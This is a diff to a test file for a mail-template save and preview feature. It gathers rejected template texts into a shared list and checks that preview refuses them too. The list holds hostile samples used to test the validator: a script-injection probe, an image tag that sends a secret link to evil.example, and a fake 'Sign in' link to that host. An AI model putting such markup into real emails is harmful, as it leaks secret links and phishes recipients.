@@ -28,6 +28,27 @@ describe('preview-mail', () => {
   });
 });
 
+const refused: [why: string, code: string, text: string][] = [
+  ['is not closed', 'unclosed', '{% if job_title %}{{ job_title }}'],
+  ['closes what was not open', 'unclosed', '{{ job_title }}{% endif %}'],
+  [
+    'closes in the wrong order',
+    'syntax',
+    '{% if link %}{% unless link %}x{% endif %}{% endunless %}',
+  ],
+  ['knows no such filter', 'syntax', '{{ job_title | shout }}'],
+  ['knows no such name', 'unknown_variable', '{{ salary }}'],
+  ['holds a script', 'unsafe_html', '<script>alert(1)</script>'],
+  ['is empty', 'empty', ' '],
+  [
+    'sends a link to another host',
+    'secret_misplaced',
+    '<img src="https://evil.example/p?{{ link }}">',
+  ],
+  ['loads from another host', 'foreign_content', '<img src="https://evil.example/p"> {{ link }}'],
+  ['leads to another host', 'foreign_link', '<a href="https://evil.example">Sign in</a>'],
+];
+
 describe('save-mail-template', () => {
   const versionNow = async () => {
     const [row] = await rows(
@@ -54,27 +75,23 @@ describe('save-mail-template', () => {
     ).toEqual([{ actor_id: cast.astrid.id, changed_columns: ['body', 'subject', 'updated_by'] }]);
   });
 
-  it.each([
-    ['is not closed', '{% if job_title %}{{ job_title }}'],
-    ['closes what was not open', '{{ job_title }}{% endif %}'],
-    ['closes in the wrong order', '{% if link %}{% unless link %}x{% endif %}{% endunless %}'],
-    ['knows no such filter', '{{ job_title | shout }}'],
-    ['knows no such name', '{{ salary }}'],
-    ['holds a script', '<script>alert(1)</script>'],
-    ['is empty', ' '],
-    ['sends a link to another host', '<img src="https://evil.example/p?{{ link }}">'],
-    ['loads from another host', '<img src="https://evil.example/p"> {{ link }}'],
-    ['leads to another host', '<a href="https://evil.example">Sign in</a>'],
-  ])('refuses a text that %s, whatever the screen had said', async (_, text) => {
-    const version = await versionNow();
-    const answer = await save({ version, body: { en: '<p>Fine</p>', sv: text } });
-    expect(answer).toMatchObject({
-      status: 422,
-      error: 'invalid',
-      fields: { 'body.sv': 'invalid' },
-    });
-    expect(await versionNow()).toBe(version);
-  });
+  it.each(refused)(
+    'refuses a text that %s, whatever the screen had said, and does not preview it',
+    async (_, code, text) => {
+      const version = await versionNow();
+      const answer = await save({ version, body: { en: '<p>Fine</p>', sv: text } });
+      expect(answer).toMatchObject({
+        status: 422,
+        error: 'invalid',
+        fields: { 'body.sv': 'invalid' },
+      });
+      expect(await versionNow()).toBe(version);
+      const preview = { template: 'application_received', language: 'sv', body: text };
+      const { data } = await server.invoke('preview-mail', preview, { as: 'astrid' });
+      expect(data).toMatchObject({ errors: [{ part: 'body', language: 'sv', code }] });
+      expect(data).not.toHaveProperty('html');
+    },
+  );
 
   it('is for administrators, and the table itself for nobody', async () => {
     expect((await save({ version: 1 }, 'rasmus')).status).toBe(403);
